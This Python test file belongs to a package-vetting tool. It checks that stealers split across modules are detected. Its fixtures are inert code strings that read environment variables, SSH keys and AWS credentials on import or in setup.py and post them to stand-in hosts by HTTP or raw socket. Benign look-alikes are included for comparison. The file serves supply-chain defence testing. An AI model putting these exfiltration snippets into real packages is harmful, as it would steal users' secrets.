"""Secrets put into another module's names and sent from there (issue 16; ADR 0195).

A stealer split across modules: ``_state.py`` binds ``BUF = []``, a function (there or in
another module that imports it) puts the environment or a key into it on import, and a
third module sends ``BUF`` after ``from ._state import BUF``. A name imported from another
module of the archive was read as a reference only and carried nothing; what a function
followed into another module put into that module's names was dropped on return. Every
sample is inert: vetting only reads files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import verdict_cases, vet_package

URL = "https://api.pyrelay.net/v1/e"
STATE = "evpkg/_state.py"
FILL_FN = "import os\nBUF = []\n\n\ndef collect():\n    BUF.append(dict(os.environ))\n"

DENIED: dict[str, Mapping[str, str]] = {
    "list-filled-by-a-function-of-its-module-sent-on-import": {
        STATE: FILL_FN,
        "evpkg/__init__.py": (
            f"import requests\nfrom ._state import BUF, collect\ncollect()\n"
            f"requests.post({URL!r}, json=BUF)\n"
        ),
    },
    "list-filled-by-a-function-of-its-module-sent-by-a-function-run-on-import": {
        STATE: FILL_FN,
        "evpkg/__init__.py": (
            "import requests\nfrom ._state import BUF, collect\n\n\ndef _go():\n    collect()\n"
            f"    requests.post({URL!r}, json=BUF)\n\n\n_go()\n"
        ),
    },
    "list-filled-on-import-of-its-module-sent-by-another": {
        STATE: "import os\nBUF = []\nBUF.append(dict(os.environ))\n",
        "evpkg/_net.py": (
            "import json, urllib.request\nfrom ._state import BUF\n\n\ndef flush():\n"
            f"    urllib.request.urlopen({URL!r}, data=json.dumps(BUF).encode())\n"
        ),
        "evpkg/__init__.py": "from . import _state\nfrom ._net import flush\nflush()\n",
    },
    "dict-filled-by-a-grabber-module-sent-by-a-socket-module": {
        STATE: "STATE = {}\n",
        "evpkg/_grab.py": (
            "import os\nfrom ._state import STATE\n\n\ndef grab():\n"
            "    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n"
            "        STATE['k'] = f.read()\n"
        ),
        "evpkg/_net.py": (
            "import socket\nfrom ._state import STATE\n\n\ndef send():\n"
            "    socket.create_connection(('203.0.113.7', 443)).sendall(str(STATE).encode())\n"
        ),
        "evpkg/__init__.py": "from ._grab import grab\nfrom ._net import send\ngrab()\nsend()\n",
    },
    "items-extended-by-one-module-shipped-by-another": {
        STATE: "import os\nITEMS = []\n\n\ndef fill():\n    ITEMS.extend(os.environ.items())\n",
        "evpkg/_net.py": (
            "import requests\nfrom ._state import ITEMS\n\n\ndef ship():\n"
            f"    requests.post({URL!r}, data=str(ITEMS))\n"
        ),
        "evpkg/__init__.py": "from ._state import fill\nfrom ._net import ship\nfill()\nship()\n",
    },
    "module-dict-updated-then-read-by-its-module-name": {
        STATE: "import os\nCFG = {}\n\n\ndef load():\n    CFG.update(os.environ)\n",
        "evpkg/__init__.py": (
            "import requests\nfrom . import _state\n_state.load()\n\n\ndef _go():\n"
            f"    requests.post({URL!r}, json=_state.CFG)\n\n\n_go()\n"
        ),
    },
    "setup-py-helpers-share-a-box": {
        "setup.py": (
            "from setuptools import setup\nimport _b\nimport _s\n_b.collect()\n_s.send()\n"
            "setup(name='evpkg')\n"
        ),
        "_store.py": "BOX = []\n",
        "_b.py": (
            "import os\nfrom _store import BOX\n\n\ndef collect():\n"
            "    BOX.append(open(os.path.expanduser('~/.aws/credentials')).read())\n"
        ),
        "_s.py": (
            "import requests\nfrom _store import BOX\n\n\ndef send():\n"
            f"    requests.post({URL!r}, data='\\n'.join(BOX))\n"
        ),
        "evpkg/__init__.py": "",
    },
}
ALLOWED: dict[str, Mapping[str, str]] = {
    # A library's settings filled from its own variable on import, sent by a client when called.
    "settings-module-key-sent-when-called": {
        STATE: (
            "import os\nSETTINGS = {}\n\n\ndef load():\n"
            "    SETTINGS['api_key'] = os.environ.get('MYSVC_API_KEY')\n"
        ),
        "evpkg/client.py": (
            "import requests\nfrom ._state import SETTINGS\n\n\ndef call(path):\n"
            "    return requests.get('https://api.mysvc.example' + path,"
            " headers={'Authorization': SETTINGS['api_key']})\n"
        ),
        "evpkg/__init__.py": "from ._state import load\nfrom .client import call\nload()\n",
    },
    # Telemetry: the names of events kept in a shared list, flushed on import.
    "event-names-buffer-flushed-on-import": {
        STATE: "EVENTS = []\n\n\ndef record(name):\n    EVENTS.append({'event': name})\n",
        "evpkg/_net.py": (
            "import requests\nfrom ._state import EVENTS\n\n\ndef flush():\n"
            "    requests.post('https://telemetry.mysvc.example/e', json=EVENTS)\n"
        ),
        "evpkg/__init__.py": (
            "from ._state import record\nfrom ._net import flush\nrecord('import')\nflush()\n"
        ),
    },
    # A hub client caches its token in a module dict and sends it to its own API when called.
    "token-cached-in-a-module-sent-to-its-api-when-called": {
        STATE: (
            "import os\n_CACHE = {}\n\n\ndef token():\n"
            "    _CACHE.setdefault('t', os.environ.get('HF_TOKEN'))\n    return _CACHE['t']\n"
        ),
        "evpkg/api.py": (
            "import requests\nfrom ._state import _CACHE, token\n\n\ndef whoami():\n    token()\n"
            "    return requests.get('https://huggingface.co/api/whoami-v2',"
            " headers={'authorization': 'Bearer ' + _CACHE['t']})\n"
        ),
        "evpkg/__init__.py": "from .api import whoami\n",
    },
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_secrets_shared_between_modules(files: Mapping[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
